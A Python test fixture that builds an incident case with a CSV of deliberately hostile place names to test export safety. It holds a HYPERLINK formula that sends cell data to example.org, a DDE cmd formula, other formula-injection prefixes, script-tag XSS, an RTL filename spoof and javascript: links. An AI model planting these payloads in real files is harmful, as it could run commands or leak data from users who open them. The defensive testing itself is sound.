"""The court's case with incidents in it, some recent and some hostile, for what is asked of exports."""

import csv
import io
import shutil
from datetime import timedelta
from pathlib import Path

from armstrace.desk.case import Case, open_case
from armstrace.desk.incidents.export import EXAMPLE
from armstrace.evidence.clock import utc_now
from desk.made_files import write

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "a town;=1+1",
    "a town\n=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script> & ]]> <b>",
    "report\u202efdp.exe | `code` [x](javascript:alert(1)) ![y](http://example.org/z.png)",
)
"""Names of places that a program might run, draw or follow."""
EXACT = ("40.123456", "47.654321")


def rich_case(root: Path, folder: Path) -> Case:
    """Copy a case and add a sheet of incidents: hostile ones, one of last week, some of one event."""
    case = open_case(Path(shutil.copytree(root, folder / "case")), "p-1")
    recent = (utc_now().date() - timedelta(days=7)).isoformat()
    rows = [
        {**EXAMPLE, "number": f"H-{number}", "place": words, "text": words, "note": words}
        for number, words in enumerate(HOSTILE)
    ]
    told = {"lat": EXACT[0], "lon": EXACT[1], "precision": "exact", "weapon": "", "date": recent, "reported": recent}
    rows.append({**EXAMPLE, **told, "number": "R-1", "text": f"It fell at {EXACT[0]}, {EXACT[1]}.", "place": "Near"})
    rows.append({**EXAMPLE, "number": "O-1", "lat": "40.5", "lon": "-0.25", "precision": "district", "date": "2016~"})
    rows.append({**EXAMPLE, "number": "O-2", "lat": "40.5", "lon": "-0.25", "precision": "", "date": "2016-05"})
    case.read(case.add(write(folder, "incidents.csv", sheet(rows)), licence="CC BY 4.0"))
    case.tables.close()
    return case


def sheet(rows: list[dict[str, str]]) -> str:
    """Write incidents as a sheet of one's own."""
    text = io.StringIO()
    writer = csv.DictWriter(text, list(EXAMPLE), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()
